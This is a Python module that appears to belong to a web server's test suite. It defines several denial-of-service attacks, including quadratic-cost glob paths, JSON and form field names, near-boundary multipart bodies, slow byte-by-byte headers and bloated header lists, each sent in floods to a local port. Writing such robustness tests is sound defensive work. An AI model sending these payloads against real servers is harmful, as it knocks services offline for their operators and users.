"""Attacks on whatever reads bytes: inputs whose cost could grow with the square of their length."""

from attacks.attack import Attack, Crowd, get, post

KIB, MIB = 1 << 10, 1 << 20


class Glob(Attack):
    name = "glob"
    summary = "paths of 8 KB that nearly match a pattern with three stars"
    goes_on_at_stop = True

    def run(self, port, ready):
        path = "/" + ".private" * 1000
        Crowd(port, 16, get(path) * 16, repeats=True).go_on(ready)


class FieldNames(Attack):
    name = "field-names"
    summary = "forms whose sixteen names of 64 KB differ in their last letters"

    def run(self, port, ready):
        name = "x" * (64 * KIB - 8)
        content = "&".join(f"{name}{number:02}=" for number in range(16)).encode()
        Crowd(port, 16, post("attack", content), repeats=True).go_on(ready)


class JSONNames(Attack):
    name = "json-names"
    summary = "a long name and then very many short ones in an object, which is a form"

    def run(self, port, ready):
        inner = ",".join(f"\"{number:x}\":0" for number in range(40_000))
        content = f"{{\"a\":{{\"{'x' * (400 * KIB)}\":0,{inner}}}}}".encode()[:MIB]
        Crowd(port, 16, post("attack", content, "application/json"), repeats=True).go_on(ready)


class CostlyForms(Attack):
    name = "costly-forms"
    summary = "sixteen forms of 1 MiB with 40,000 names on each of 60 connections: calls that cost much wait by the hundred"
    # More threads would share the processors, and the victim's form with them.
    configuration = "[pool]\nthreads_min = 1\nthreads_max = 1\n"

    def run(self, port, ready):
        inner = ",".join(f"\"{number:021x}\":0" for number in range(40_000))
        # The last brace is missing: so it costs its reader as much, and none is stored.
        content = f"{{\"a\":{{{inner}}}".encode()
        assert MIB - (16 * KIB) < len(content) <= MIB
        Crowd(port, 60, post("attack", content, "application/json") * 16, repeats=True, resets=True).go_on(ready)


class Boundaries(Attack):
    name = "boundaries"
    summary = "forms full of what nearly is their boundary"

    def run(self, port, ready):
        boundary = "-" * 69 + "x"
        part = f"--{boundary}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n--{boundary}--\r\n"
        content = part.encode() + b"-" * (MIB - len(part) - 1)
        Crowd(port, 16, post("attack", content, f"multipart/form-data; boundary=\"{boundary}\""), repeats=True).go_on(ready)


class ByteByByte(Attack):
    name = "byte-by-byte"
    summary = "heads of 16 KB whose bytes come one by one"

    def run(self, port, ready):
        Crowd(port, 100, get("/kept.html", "X: " + "x" * 15_000 + "\r\n"), repeats=True, piece=1).go_on(ready)


class ListsOfFields(Attack):
    name = "lists-of-fields"
    summary = "Accept, Accept-Encoding, If-None-Match, Range and Forwarded with as many members as a head takes"

    def run(self, port, ready):
        lists = ["Accept: " + "text/html;q=0.1," * 180, "Accept-Encoding: " + "x;q=0.1," * 350,
                 "If-None-Match: " + "\"a\"," * 700, "Range: bytes=" + "0-0,2-2," * 300, "Forwarded: " + "for=\"\\\"\"," * 250]
        Crowd(port, 16, get("/kept.html", "\r\n".join(lists) + "\r\n") * 8, repeats=True).go_on(ready)
